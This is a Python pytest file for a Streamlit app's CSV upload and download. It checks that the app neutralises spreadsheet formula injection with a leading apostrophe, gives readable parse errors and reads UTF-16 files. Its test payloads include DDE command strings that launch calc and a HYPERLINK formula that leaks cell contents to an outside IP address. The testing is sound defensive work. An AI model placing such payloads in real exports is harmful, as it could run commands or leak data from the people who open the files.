"""CSV downloads never carry a formula a spreadsheet would run (OWASP "CSV injection"): every text cell that starts
with = + - @, a tab or a carriage return gets a leading '; numbers stay numbers. Each payload is uploaded through the
upload form and its preview table (whose toolbar downloads exactly the table it shows) is written as CSV and read
back, as is the points download. Also: the refusals of a broken CSV are the app's sentences, not pandas' parser
text, and a UTF-16 file is read."""
import csv
import io

import numpy as np
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from ui.csv_text import neutralised_cell
from ui.points_io import read_csv, to_csv

PAYLOADS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", '=HYPERLINK("http://198.51.100.7/?leak="&A1,"click")']


def csv_with(payload):
    """A CSV whose label column and an extra text column hold the payload (two classes: the payload and 'b')."""
    quoted = '"' + payload.replace('"', '""') + '"'
    rows = [f"{i * 0.5},{-i * 0.25},{quoted if i % 2 else 'b'},{quoted}" for i in range(6)]
    return ("x1,x2,label,note\n" + "\n".join(rows) + "\n").encode()


def upload_form(data):
    """AppTest of the upload form (ui.data._upload_form) given the file's bytes."""
    def script(data):
        from ui.data import _upload_form
        _upload_form(data)

    at = AppTest.from_function(script, args=(data,), default_timeout=60)
    return at.run()


def is_formula(cell):
    return isinstance(cell, str) and cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_preview_table_downloads_no_formula(payload):
    at = upload_form(csv_with(payload))
    assert not at.exception and not at.error
    shown = at.dataframe[0].value
    written = shown.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)   # quoted, as a carriage return in a cell needs
    download = pd.read_csv(io.StringIO(written), dtype=str, keep_default_na=False)
    cells = download[["label", "note"]].to_numpy().ravel()
    assert not any(is_formula(c) for c in cells)
    assert "'" + payload in set(cells)     # the text is kept, behind a '
    assert download["x1"].tolist() == ["0.0", "0.5", "1.0", "1.5", "2.0"]   # numbers stay numbers (the first 5 rows)
    assert download["x2"].tolist()[1] == "-0.25"


def test_numbers_and_number_text_stay_as_they_are():
    assert [neutralised_cell(v) for v in (-1.5, 3, "-1.5", "+2", "b", None)] == [-1.5, 3, "-1.5", "+2", "b", None]
    assert neutralised_cell("-1+cmd") == "'-1+cmd" and neutralised_cell("@x") == "'@x"


def test_the_points_download_reads_back_as_the_points():
    X, y = np.array([[-0.5, 1.25], [2.0, -3.0]]), np.array([-1, 1])
    back = pd.read_csv(io.BytesIO(to_csv(X, y)))
    assert back[["x1", "x2"]].to_numpy().tolist() == X.tolist() and back["label"].tolist() == y.tolist()


@pytest.mark.parametrize("data,expected", [
    (b"x1,x2,label\n1,2,a\n3,4,b,5,6\n", "line 3 has 5 values, but the header names only 3 columns"),
    (b'x1,x2,label\n1,2,"a\n3,4,b\n', "quotation mark"),
])
def test_a_broken_table_is_refused_with_a_sentence_not_pandas_text(data, expected):
    with pytest.raises(ValueError) as err:
        read_csv(data)
    text = str(err.value)
    assert expected in text
    assert "tokenizing" not in text and "C error" not in text and "EOF" not in text


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_utf16_file_is_read(encoding):
    table = read_csv("x1,x2,label\n1.5,2,a\n3,-4,b\n".encode(encoding))
    assert table.frame["x1"].tolist() == [1.5, 3.0] and table.frame["label"].tolist() == ["a", "b"]


def test_a_binary_file_is_still_called_binary():
    with pytest.raises(ValueError, match="binary"):
        read_csv(b"PK\x03\x04\x00\x00\x14\x00binary\x00\x01")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_preview_tables_header_downloads_no_formula(payload):
    """The toolbar's download writes the column names as its first row: a payload in the CSV's header is a cell of the
    download as well."""
    quoted = '"' + payload.replace('"', '""') + '"'
    data = (f"x1,x2,label,{quoted}\n" + "".join(f"{i * 0.5},{-i * 0.25},{'ab'[i % 2]},{i}\n" for i in range(6))).encode()
    at = upload_form(data)
    assert not at.exception and not at.error
    written = at.dataframe[0].value.to_csv(index=False, quoting=csv.QUOTE_ALL)
    header = next(csv.reader(io.StringIO(written)))
    assert not any(is_formula(c) for c in header), header
    assert header == ["x1", "x2", "label", "'" + payload]       # the name is kept, behind a '
    assert [s.label for s in at.selectbox] == ["Feature x₁", "Feature x₂", "Label"]
    assert payload in at.selectbox[2].options                   # the choices still name the file's own column


def test_header_names_that_meet_once_neutralised_stay_apart():
    from ui.csv_text import neutralised

    frame = pd.DataFrame({"=a": [1], "'=a": ["=b"], "x": [2]})
    out = neutralised(frame)
    assert list(out.columns)[2] == "x" and len(set(out.columns)) == 3
    assert all(not is_formula(c) for c in out.columns) and out.iloc[0, 1] == "'=b"
